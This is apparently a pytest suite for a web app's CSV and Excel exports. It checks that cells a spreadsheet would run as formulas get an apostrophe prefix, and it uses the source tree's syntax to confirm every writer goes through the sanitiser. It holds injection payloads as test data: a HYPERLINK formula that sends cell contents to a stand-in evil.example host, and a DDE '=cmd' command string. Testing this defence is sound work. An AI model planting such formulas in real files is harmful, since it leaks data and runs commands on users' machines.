"""Formula injection (issue 14, item 3): every CSV and Excel export writes text that a
spreadsheet would run as a formula with a leading apostrophe; numbers stay numbers."""

import ast
import csv
import io
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from apps.core.cells import SafeWriter, neutralise
from apps.core.testing.factories import PersonFactory, make_place
from apps.places.choices import PlaceKind

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_it_neutralises_formula_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [42, -7, 3.5, Decimal("-1.25"), date(2026, 1, 1), True, None])
def test_numbers_dates_and_empties_stay_as_they_are(value):
    assert neutralise(value) is value


def test_plain_text_is_unchanged():
    assert neutralise("张桂英") == "张桂英"
    assert neutralise("3****************4") == "3****************4"


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    SafeWriter(out).writerows([[EVIL, 5, "-3"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + EVIL, "5", "'-3"]


@pytest.fixture
def evil_resident(world):
    return PersonFactory(name=EVIL[:50], place=world.household_a)


def test_the_residents_workbook_has_no_formula(client, world, evil_resident):
    client.force_login(world.user("town_staff"))
    response = client.get("/ledgers/export/residents.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(data)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + EVIL[:50] in names
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_the_residents_csv_has_no_formula(client, world, evil_resident):
    client.force_login(world.user("county_leader"))
    text = b"".join(client.get("/ledgers/export/residents.csv").streaming_content).decode(
        "utf-8-sig"
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + EVIL[:50]] == [r[1] for r in rows[1:] if "HYPERLINK" in r[1]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_duties_coverage_csv_has_no_formula(client, world):
    make_place(PlaceKind.HOUSEHOLD, "=cmd|' /C calc'!A0", world.unit_a)
    client.force_login(world.user("community_a"))
    response = client.get("/duties/coverage/export/", {"place": world.community_a.pk})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'=cmd|' /C calc'!A0" in [r[1] for r in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# --- every writer, enumerated from the source -------------------------------------------------

APPS = Path(__file__).resolve().parents[2]
# The modules that make a workbook or a CSV writer. A new one fails the test below: send its
# cells through apps.core.cells (safe_row, neutralise, SafeWriter) and add it here.
WRITERS = {
    "accounts/views_audit.py",
    "brands/exports.py",
    "collective/exports.py",
    "core/cells.py",
    "dual/exports.py",
    "ledgers/exports.py",
    "projects/reports.py",
    "reports/render.py",
    "visits/export.py",
    "volunteers/exports.py",
}
PENDING: set[tuple[str, str]] = set()  # rows written without safe_row: none left
SHEET_NAMES = {"ws", "sheet", "guide", "ranking", "create_sheet"}


def _sources() -> Iterator[tuple[str, ast.Module]]:
    for path in sorted(APPS.rglob("*.py")):
        name = path.relative_to(APPS).as_posix()
        if "/tests/" not in name and "/migrations/" not in name:
            yield name, ast.parse(path.read_text(encoding="utf-8"))


def _calls(tree: ast.Module) -> Iterator[tuple[ast.Call, str, str]]:
    """Each call with its function's name and the name of what it is called on."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            target = getattr(func, "value", None)
            if isinstance(target, ast.Call):
                on = getattr(target.func, "attr", getattr(target.func, "id", ""))
            else:
                on = getattr(target, "id", "")
            yield node, name, on


def _safe(value: ast.expr) -> bool:
    """Cells that cannot run: through safe_row/neutralise, constants, or an UPPER_CASE name."""
    if isinstance(value, ast.Call):
        return getattr(value.func, "id", "") in ("safe_row", "neutralise")
    if isinstance(value, ast.List | ast.Tuple):
        return all(isinstance(e, ast.Constant) for e in value.elts)
    return isinstance(value, ast.Constant) or (isinstance(value, ast.Name) and value.id.isupper())


def test_every_spreadsheet_writer_is_enumerated():
    found = set()
    for name, tree in _sources():
        for _, func, on in _calls(tree):
            if func == "Workbook" or (func in ("writer", "DictWriter") and on == "csv"):
                found.add(name)
    assert found == WRITERS


def test_only_apps_core_cells_makes_a_csv_writer():
    """Every CSV goes through cells.SafeWriter."""
    makers = {
        name
        for name, tree in _sources()
        for _, func, on in _calls(tree)
        if func in ("writer", "DictWriter") and on == "csv"
    }
    assert makers == {"core/cells.py"}


def test_every_row_and_cell_of_a_workbook_goes_through_cells():
    unsafe = set()
    for name, tree in _sources():
        if name not in WRITERS:
            continue
        for call, func, on in _calls(tree):
            if func == "append" and on in SHEET_NAMES and not _safe(call.args[0]):
                unsafe.add((name, ast.unparse(call)))
            for keyword in call.keywords:
                if func == "cell" and keyword.arg == "value" and not _safe(keyword.value):
                    unsafe.add((name, ast.unparse(call)))
        for node in ast.walk(tree):
            if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Subscript):
                target = node.targets[0].value
                if getattr(target, "id", "") in SHEET_NAMES and not _safe(node.value):
                    unsafe.add((name, ast.unparse(node)))
    assert unsafe <= PENDING, unsafe - PENDING
